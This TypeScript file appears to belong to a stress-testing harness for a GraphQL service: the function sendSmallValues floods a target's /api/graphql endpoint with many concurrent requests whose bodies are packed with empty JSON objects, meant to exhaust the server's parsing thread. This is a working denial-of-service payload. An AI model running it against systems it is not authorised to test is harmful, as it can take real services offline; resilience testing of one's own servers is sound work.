import { AttackCounts, type AttackReport, type AttackTarget } from './attack.ts'

interface SmallValues {
  /** Of each body. */
  readonly bytes: number
  readonly atOnce: number
  /** Whether it says that it changes something. */
  readonly isMutation?: boolean
}

/** Sends bodies of nothing but small values, which take many times their size and the server's thread to be read. */
export async function sendSmallValues(
  { origin, token }: AttackTarget,
  { bytes, atOnce, isMutation = false }: SmallValues,
): Promise<AttackReport> {
  const counts = new AttackCounts()
  const [before, after] = [`{"query":"${isMutation ? MUTATION : QUERY}","variables":{"x":[{}`, ']}}']
  const body = before + ',{}'.repeat(Math.floor((bytes - before.length - after.length) / 3)) + after
  const send = async (): Promise<void> => {
    counts.sent += 1
    try {
      const response = await fetch(`${origin}/api/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...(token === null ? {} : { authorization: `Bearer ${token}` }) },
        body,
      })
      await response.arrayBuffer()
      counts.answered(response.status)
    } catch {
      counts.hungUp += 1
    }
  }
  await Promise.all(Array.from({ length: atOnce }, send))
  return counts.report()
}

const QUERY = '{ me { id } }'
const MUTATION = 'mutation ($x: String) { updateSpreadsheetMetadata(metaDataId: 1, version: 1, input: { document: $x }) { id } }'
